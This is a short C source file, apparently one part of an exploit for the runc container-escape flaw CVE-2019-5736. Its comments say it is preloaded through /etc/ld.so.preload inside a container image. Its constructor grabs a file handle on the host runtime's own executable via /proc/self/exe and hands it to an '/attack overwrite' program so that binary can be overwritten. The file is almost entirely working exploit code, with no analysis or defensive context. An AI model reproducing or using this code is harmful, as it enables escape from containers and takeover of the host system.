// Loaded by the dynamic linker of the image into whatever runs there (/etc/ld.so.preload), before its first instruction.
// In a program of the host, such as a container runtime that was made to execute itself, it keeps hold of the program's
// file and goes on as another program. Source: CVE-2019-5736.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void begin(void) {
  char exe[256] = "", number[16];
  if (readlink("/proc/self/exe", exe, sizeof exe - 1) <= 0 || !strcmp(exe, "/attack")) return;
  int fd = open("/proc/self/exe", O_PATH);
  snprintf(number, sizeof number, "%d", fd);
  execl("/attack", "attack", "overwrite", number, NULL);
}
